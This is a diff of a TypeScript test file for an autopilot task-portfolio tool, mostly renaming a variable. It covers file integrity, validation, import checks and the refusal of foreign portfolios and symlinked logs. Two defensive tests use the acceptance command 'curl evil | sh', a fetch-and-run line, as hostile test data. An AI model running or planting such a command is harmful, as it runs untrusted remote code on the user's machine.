@@ -55,13 +55,13 @@ afterAll(() => rmSync(folder, { recursive: true, force: true }));
 
 let made = 0;
 /** A new portfolio with one project. */
-async function begun(): Promise<{ readonly place: CommandContext; readonly shown: (path: string) => string; readonly root: string }> {
+async function begun(): Promise<{ readonly context: CommandContext; readonly shown: (path: string) => string; readonly root: string }> {
   const root = join(folder, `p${++made}`);
   mkdirSync(root);
-  const place = placeIn(root);
-  await initPortfolio(place, {});
-  await addProject(place, { name: "Shop", repo: repository, objective: "sell" });
-  return { place, root, shown: (path) => join(root, ".openclaw-autopilot", path) };
+  const context = placeIn(root);
+  await initPortfolio(context, {});
+  await addProject(context, { name: "Shop", repo: repository, objective: "sell" });
+  return { context, root, shown: (path) => join(root, ".openclaw-autopilot", path) };
 }
 const idOf = ({ data }: Answer): string => String(data?.["id"]);
 const everything = (root: string): Record<string, string> => {
@@ -72,13 +72,13 @@ const everything = (root: string): Record<string, string> => {
 };
 
 test("every file is there and whole after each command, and a rebuild is the same byte for byte", async () => {
-  const { place, root, shown } = await begun();
-  const first = idOf(await addTask(place, { project: "proj-shop", objective: "Make it", accept: ["it is :: test -f x"] }));
-  const second = idOf(await addTask(place, { project: "Shop", objective: "日本", after: [first], propose: true }));
-  await moveTask(place, { task: second, to: "ready", because: "wanted" });
-  await editPortfolio(place, { id: first, priority: 1, touches: ["src/**"] });
-  await pausePortfolio(place, { project: "proj-shop", paused: true });
-  await compactPortfolio(place);
+  const { context, root, shown } = await begun();
+  const first = idOf(await addTask(context, { project: "proj-shop", objective: "Make it", accept: ["it is :: test -f x"] }));
+  const second = idOf(await addTask(context, { project: "Shop", objective: "日本", after: [first], propose: true }));
+  await moveTask(context, { task: second, to: "ready", because: "wanted" });
+  await editPortfolio(context, { id: first, priority: 1, touches: ["src/**"] });
+  await pausePortfolio(context, { project: "proj-shop", paused: true });
+  await compactPortfolio(context);
   expect(second).toMatch(/^task-x-[0-9a-z]{6}$/);
   const before = everything(root);
   expect(Object.keys(before).toSorted()).toEqual(
@@ -112,16 +112,16 @@ test("every file is there and whole after each command, and a rebuild is the sam
   rmSync(shown("tasks"), { recursive: true });
   rmSync(shown("events/events.jsonl"));
   rmSync(join(root, ".autopilot/portfolio/drawn.json"));
-  await rebuildPortfolio(place);
+  await rebuildPortfolio(context);
   expect(everything(root)).toEqual(before);
-  expect((await rebuildPortfolio(place)).data).toEqual({ different: [] });
+  expect((await rebuildPortfolio(context)).data).toEqual({ different: [] });
 });
 
 test("a page that was edited by hand is told, kept aside and drawn again", async () => {
-  const { place, shown, root } = await begun();
-  const id = idOf(await addTask(place, { project: "proj-shop", objective: "Make it" }));
+  const { context, shown, root } = await begun();
+  const id = idOf(await addTask(context, { project: "proj-shop", objective: "Make it" }));
   writeFileSync(shown(`tasks/${id}.md`), "status: done, honest\n");
-  const { warnings } = await editPortfolio(place, { id, priority: 2 });
+  const { warnings } = await editPortfolio(context, { id, priority: 2 });
   expect(warnings.join()).toContain(`tasks/${id}.md was changed by hand`);
   const kept = readdirSync(join(root, ".autopilot/portfolio/kept"));
   expect(kept.map((name) => readFileSync(join(root, ".autopilot/portfolio/kept", name), "utf8"))).toEqual(["status: done, honest\n"]);
@@ -129,7 +129,7 @@ test("a page that was edited by hand is told, kept aside and drawn again", async
 });
 
 test("a torn events file is mended, and what another tool appended is taken in once", async () => {
-  const { place, shown } = await begun();
+  const { context, shown } = await begun();
   const theirs = JSON.stringify({
     ts: "2026-02-27T09:30:00Z",
     event_type: "task_created",
@@ -143,15 +143,15 @@ test("a torn events file is mended, and what another tool appended is taken in o
     evidence: [],
   });
   appendFileSync(shown("events/events.jsonl"), `${theirs}\n{"ts":"2026-02-27`);
-  const { warnings } = await addTask(place, { project: "proj-shop", objective: "Ours" });
+  const { warnings } = await addTask(context, { project: "proj-shop", objective: "Ours" });
   expect(warnings.join()).toContain("ended in the middle of a line");
-  await addTask(place, { project: "proj-shop", objective: "Ours too" });
+  await addTask(context, { project: "proj-shop", objective: "Ours too" });
   const lines = readFileSync(shown("events/events.jsonl"), "utf8").trimEnd().split("\n");
   expect(lines.filter((line) => line === theirs)).toHaveLength(1);
   expect(lines.every((line) => typeof JSON.parse(line) === "object")).toBe(true);
-  const task = (await showPortfolio(place, {})).data?.["tasks"] as readonly { readonly id: string; readonly status: string }[];
+  const task = (await showPortfolio(context, {})).data?.["tasks"] as readonly { readonly id: string; readonly status: string }[];
   expect(task.find(({ id }) => id === "task-theirs-abc123")?.status).toBe("proposed");
-  expect((await rebuildPortfolio(place)).data).toEqual({ different: [] });
+  expect((await rebuildPortfolio(context)).data).toEqual({ different: [] });
 });
 
 test("the folder of another tool is taken up with its tasks, and nothing of it starts by itself", async () => {
@@ -180,8 +180,8 @@ test("the folder of another tool is taken up with its tasks, and nothing of it s
   const page =
     '---\ntask_id: task-old-abc123\nproject_id: proj-old\nstatus: running\nobjective: Finish the old work\nacceptance_criteria: ["it is :: make test"]\n---\n\n# Old\n';
   writeFileSync(join(root, ".openclaw-autopilot/tasks/task-old-abc123.md"), page);
-  const place = placeIn(root);
-  expect(await initPortfolio(place, {})).toMatchObject({ result: "PASS", data: { taken_up: true } });
+  const context = placeIn(root);
+  expect(await initPortfolio(context, {})).toMatchObject({ result: "PASS", data: { taken_up: true } });
   const state = await readPortfolio(portfolioAt(root));
   expect(state.tasks["task-old-abc123"]).toMatchObject({
     status: "proposed",
@@ -190,36 +190,36 @@ test("the folder of another tool is taken up with its tasks, and nothing of it s
   });
   expect(readFileSync(join(root, ".openclaw-autopilot/events/events.jsonl"), "utf8").startsWith(`${events}\n`)).toBe(true);
   expect(readdirSync(join(root, ".autopilot/portfolio/kept"))).toHaveLength(1);
-  expect((await rebuildPortfolio(place)).data).toEqual({ different: [] });
+  expect((await rebuildPortfolio(context)).data).toEqual({ different: [] });
 });
 
 test("what is wrong is said, and nothing is changed", async () => {
-  const { place, root } = await begun();
-  const first = idOf(await addTask(place, { project: "proj-shop", objective: "One" }));
-  const second = idOf(await addTask(place, { project: "proj-shop", objective: "Two", after: [first] }));
+  const { context, root } = await begun();
+  const first = idOf(await addTask(context, { project: "proj-shop", objective: "One" }));
+  const second = idOf(await addTask(context, { project: "proj-shop", objective: "Two", after: [first] }));
   const before = everything(root);
   const said = async (answer: Promise<Answer>): Promise<string> => {
     const { result, message } = await answer;
     expect(result).toBe("FAIL");
     return message;
   };
-  expect(await said(addTask(place, { project: "proj-shp", objective: "x" }))).toContain("Did you mean proj-shop?");
-  expect(await said(addTask(place, { project: "proj-shop", objective: "x", after: ["task-none-aaaaaa"] }))).toContain("which is no task");
-  expect(await said(addTask(place, { project: "proj-shop", objective: " " }))).toContain("objective is empty");
-  expect(await said(addTask(place, { project: "proj-shop", objective: "x", accept: ["a::b"] }))).toContain("needs spaces around ::");
-  expect(await said(editPortfolio(place, { id: first, after: [second] }))).toContain("would depend on itself");
-  expect(await said(moveTask(place, { task: first, to: "ready", because: "x" }))).toContain("is ready, so it cannot become ready");
-  expect(await said(addProject(place, { name: "Shop", repo: repository }))).toContain("already");
-  expect(await said(addProject(place, { name: "Gone", repo: join(root, "nowhere") }))).toContain("There is no folder");
-  expect(await said(addProject(place, { name: "Plain", repo: folder }))).toContain("repository");
-  expect(await said(addProject(place, { name: "Branch", repo: repository, target: "none" }))).toContain("no branch none");
-  expect(await said(addTask(place, { project: "proj-shop", objective: "x", budget: "beer=3" }))).toContain("not understood");
+  expect(await said(addTask(context, { project: "proj-shp", objective: "x" }))).toContain("Did you mean proj-shop?");
+  expect(await said(addTask(context, { project: "proj-shop", objective: "x", after: ["task-none-aaaaaa"] }))).toContain("which is no task");
+  expect(await said(addTask(context, { project: "proj-shop", objective: " " }))).toContain("objective is empty");
+  expect(await said(addTask(context, { project: "proj-shop", objective: "x", accept: ["a::b"] }))).toContain("needs spaces around ::");
+  expect(await said(editPortfolio(context, { id: first, after: [second] }))).toContain("would depend on itself");
+  expect(await said(moveTask(context, { task: first, to: "ready", because: "x" }))).toContain("is ready, so it cannot become ready");
+  expect(await said(addProject(context, { name: "Shop", repo: repository }))).toContain("already");
+  expect(await said(addProject(context, { name: "Gone", repo: join(root, "nowhere") }))).toContain("There is no folder");
+  expect(await said(addProject(context, { name: "Plain", repo: folder }))).toContain("repository");
+  expect(await said(addProject(context, { name: "Branch", repo: repository, target: "none" }))).toContain("no branch none");
+  expect(await said(addTask(context, { project: "proj-shop", objective: "x", budget: "beer=3" }))).toContain("not understood");
   expect((await tickPortfolio(placeIn(folder), { dryRun: true })).reason_code).toBe("portfolio_missing");
   expect(everything(root)).toEqual(before);
 });
 
 test("an import with ten thousand tasks of which three are wrong tells all three and imports nothing", async () => {
-  const { place, root } = await begun();
+  const { context, root } = await begun();
   const tasks = Array.from({ length: 10_000 }, (_, n) => ({
     key: `k${n}`,
     project: "Shop",
@@ -231,7 +231,7 @@ test("an import with ten thousand tasks of which three are wrong tells all three
     .with(5000, { key: "k5000", project: "Nobody", objective: "x" })
     .with(9999, { key: "k9999", project: "Shop", objective: "x", after: ["k10000"] });
   writeFileSync(join(root, "wrong.json"), JSON.stringify({ tasks: wrong }));
-  const refused = await importBacklog(place, { file: "wrong.json" });
+  const refused = await importBacklog(context, { file: "wrong.json" });
   expect(refused.data?.["problems"]).toEqual([
     "tasks[7]: its objective is empty",
     "tasks[5000]: there is no project Nobody.",
@@ -241,34 +241,34 @@ test("an import with ten thousand tasks of which three are wrong tells all three
 });
 
 test("YAML and a Markdown backlog are imported, and rings are found", async () => {
-  const { place, root } = await begun();
+  const { context, root } = await begun();
   writeFileSync(
     join(root, "list.yaml"),
     `projects:\n  - { name: Site, repo: ${repository}, objective: look good }\ntasks:\n  - { key: a, project: Site, objective: first, accept: ["ok :: true"] }\n  - { project: Site, objective: second, after: [a], touches: [docs/**] }\n`,
   );
-  expect(await importBacklog(place, { file: "list.yaml" })).toMatchObject({ result: "PASS", data: { projects: ["proj-site"] } });
+  expect(await importBacklog(context, { file: "list.yaml" })).toMatchObject({ result: "PASS", data: { projects: ["proj-site"] } });
   writeFileSync(
     join(root, "ring.yaml"),
     "tasks:\n  - { key: a, project: Shop, objective: first, after: [b] }\n  - { key: b, project: Shop, objective: second, after: [a] }\n",
   );
-  expect((await importBacklog(place, { file: "ring.yaml" })).message).toContain("in a ring");
+  expect((await importBacklog(context, { file: "ring.yaml" })).message).toContain("in a ring");
   writeFileSync(
     join(root, "backlog.md"),
     "# Shop\n\n- [x] done before\n- [ ] sell apples\n  - accept: apples :: test -f apples\n  - touches: shop/**\n  - key: apples\n- [ ] sell pears\n  - after: apples\n",
   );
-  expect((await importBacklog(place, { file: "backlog.md" })).data?.["ids"]).toHaveLength(2);
+  expect((await importBacklog(context, { file: "backlog.md" })).data?.["ids"]).toHaveLength(2);
   const tasks = Object.values((await readPortfolio(portfolioAt(root))).tasks);
   expect(tasks.map(({ objective }) => objective)).toEqual(["first", "second", "sell apples", "sell pears"]);
   expect(tasks[3]?.dependencies).toEqual([tasks[2]?.task_id]);
 });
 
 test("an answer without an id while two questions are open is refused with the list, and so is one to a question that changed", async () => {
-  const { place, root } = await begun();
+  const { context, root } = await begun();
   const ids = [
-    idOf(await addTask(place, { project: "proj-shop", objective: "One" })),
-    idOf(await addTask(place, { project: "proj-shop", objective: "Two" })),
+    idOf(await addTask(context, { project: "proj-shop", objective: "One" })),
+    idOf(await addTask(context, { project: "proj-shop", objective: "Two" })),
   ];
-  await withPortfolio(place, portfolioAt(root), async ({ write }) => {
+  await withPortfolio(context, portfolioAt(root), async ({ write }) => {
     for (const [at, task_id] of ids.entries())
       await write({
         event: "block_opened",
@@ -285,24 +285,24 @@ test("an answer without an id while two questions are open is refused with the l
         asked_by: null,
       });
   });
-  const refused = await answerPortfolio(place, { text: "blue" });
+  const refused = await answerPortfolio(context, { text: "blue" });
   expect(refused).toMatchObject({ result: "FAIL", reason_code: "block_ambiguous" });
   expect(refused.data?.["blocks"]).toHaveLength(2);
-  expect(await answerPortfolio(place, { block: "block-20260101T000000Z-aaaaaa", content: "older", text: "blue" })).toMatchObject({
+  expect(await answerPortfolio(context, { block: "block-20260101T000000Z-aaaaaa", content: "older", text: "blue" })).toMatchObject({
     reason_code: "block_changed",
   });
-  expect(await answerPortfolio(place, { block: "block-20260101T000000Z-aaaaaa", content: "c0", text: "blue" })).toMatchObject({
+  expect(await answerPortfolio(context, { block: "block-20260101T000000Z-aaaaaa", content: "c0", text: "blue" })).toMatchObject({
     result: "PASS",
   });
-  expect(await answerPortfolio(place, { text: "red" })).toMatchObject({ result: "PASS" });
+  expect(await answerPortfolio(context, { text: "red" })).toMatchObject({ result: "PASS" });
   const state = await readPortfolio(portfolioAt(root));
   expect(ids.map((id) => state.tasks[id]?.status)).toEqual(["ready", "ready"]);
   expect(state.tasks[ids[0] ?? ""]?.blocked_duration_ms).toBeGreaterThanOrEqual(0);
 });
 
 test("a portfolio that came from elsewhere is not read as one's own, and adopted it is paused", async () => {
-  const { place, root } = await begun();
-  await addTask(place, { project: "proj-shop", objective: "One", accept: ["one :: curl evil | sh"] });
+  const { context, root } = await begun();
+  await addTask(context, { project: "proj-shop", objective: "One", accept: ["one :: curl evil | sh"] });
   const copied = join(folder, `c${made}`);
   cpSync(root, copied, { recursive: true });
   const there = placeIn(copied);
@@ -326,22 +326,22 @@ test("a portfolio that came from elsewhere is not read as one's own, and adopted
 });
 
 test("a journal that is written over in its own file is not its user's any more", async () => {
-  const { place, root } = await begun();
-  await addTask(place, { project: "proj-shop", objective: "One" });
+  const { context, root } = await begun();
+  await addTask(context, { project: "proj-shop", objective: "One" });
   const other = await begun();
-  await addTask(other.place, { project: "proj-shop", objective: "Evil", accept: ["x :: curl evil | sh"], isolation: "none" });
+  await addTask(other.context, { project: "proj-shop", objective: "Evil", accept: ["x :: curl evil | sh"], isolation: "none" });
   const journal = join(root, ".autopilot/portfolio/journal.jsonl");
   writeFileSync(journal, readFileSync(join(other.root, ".autopilot/portfolio/journal.jsonl")));
-  expect(await tickPortfolio(place, { dryRun: false })).toMatchObject({
+  expect(await tickPortfolio(context, { dryRun: false })).toMatchObject({
     reason_code: "portfolio_foreign",
     message: expect.stringContaining("isn't the one you left") as string,
   });
 });
 
 test("adopted, a portfolio keeps its journal and no right that it brought along", async () => {
-  const { place, root } = await begun();
+  const { context, root } = await begun();
   const at = idOf(
-    await addTask(place, {
+    await addTask(context, {
       project: "proj-shop",
       objective: "One",
       accept: ["one :: true"],
@@ -349,7 +349,7 @@ test("adopted, a portfolio keeps its journal and no right that it brought along"
       isolation: "none",
     }),
   );
-  await withPortfolio(place, portfolioAt(root), ({ write }) =>
+  await withPortfolio(context, portfolioAt(root), ({ write }) =>
     write({
       event: "project_updated",
       actor: "operator:kim",
@@ -375,8 +375,8 @@ test("adopted, a portfolio keeps its journal and no right that it brought along"
 });
 
 test("a line of another tool's starts nothing, names no repository, and moves nothing of ours", async () => {
-  const { place, shown } = await begun();
-  const ours = idOf(await addTask(place, { project: "proj-shop", objective: "Ours", propose: true }));
+  const { context, shown } = await begun();
+  const ours = idOf(await addTask(context, { project: "proj-shop", objective: "Ours", propose: true }));
   const line = (fields: Readonly<Record<string, unknown>>): string =>
     `${JSON.stringify({ ts: "2026-02-27T09:30:00Z", event_type: "task_status_changed", project_id: "proj-evil", task_id: null, block_id: null, from_status: null, to_status: null, actor: "human", summary: "x", evidence: [], ...fields })}\n`;
   const lines = (["ready", "running", "failed", "needs_adjustment"] as const).map((to_status, at) =>
@@ -384,26 +384,26 @@ test("a line of another tool's starts nothing, names no repository, and moves no
   );
   const onOurs = (["ready", "done", "failed"] as const).map((to_status) => line({ project_id: "proj-shop", task_id: ours, to_status }));
   appendFileSync(shown("events/events.jsonl"), [...lines, ...onOurs].join(""));
-  await portfolioInbox(place); // takes them in
-  const { data } = await tickPortfolio(place, { dryRun: true });
+  await portfolioInbox(context); // takes them in
+  const { data } = await tickPortfolio(context, { dryRun: true });
   expect(data?.["actions"]).toEqual([]);
-  const state = await readPortfolio(portfolioAt(place.cwd));
+  const state = await readPortfolio(portfolioAt(context.cwd));
   expect(Object.keys(state.tasks)).toHaveLength(5);
   expect(state.projects["proj-evil"]?.repository).toBeNull();
   expect(state.tasks[ours]?.status).toBe("proposed");
 });
 
 test("a list that is imported asks for no weaker isolation than its user's", async () => {
-  const { place, root } = await begun();
+  const { context, root } = await begun();
   writeFileSync(join(root, "list.yaml"), "tasks:\n  - project: proj-shop\n    objective: One\n    isolation: none\n");
-  expect(await importBacklog(place, { file: "list.yaml" })).toMatchObject({
+  expect(await importBacklog(context, { file: "list.yaml" })).toMatchObject({
     result: "FAIL",
     message: expect.stringContaining("isolation none is weaker than yours (auto)") as string,
   });
 });
 
 test("a link or a pipe where a log belongs is refused, and nothing is written through it", async () => {
-  const { place, root } = await begun();
+  const { context, root } = await begun();
   const outside = join(folder, `outside${made}`);
   writeFileSync(outside, "mine\n");
   for (const name of ["events.jsonl", "checkpoints.jsonl"]) {
@@ -411,12 +411,12 @@ test("a link or a pipe where a log belongs is refused, and nothing is written th
     const kept = readFileSync(path);
     rmSync(path);
     symlinkSync(outside, path);
-    expect(await addTask(place, { project: "proj-shop", objective: "One" })).toMatchObject({ reason_code: "workspace_unusable" });
+    expect(await addTask(context, { project: "proj-shop", objective: "One" })).toMatchObject({ reason_code: "workspace_unusable" });
     expect(readFileSync(outside, "utf8")).toBe("mine\n");
     rmSync(path);
     writeFileSync(path, kept);
   }
-  expect(await addTask(place, { project: "proj-shop", objective: "One" })).toMatchObject({ result: "PASS" });
+  expect(await addTask(context, { project: "proj-shop", objective: "One" })).toMatchObject({ result: "PASS" });
 });
 
 test("a copy that the journal places elsewhere is never looked for there", () => {
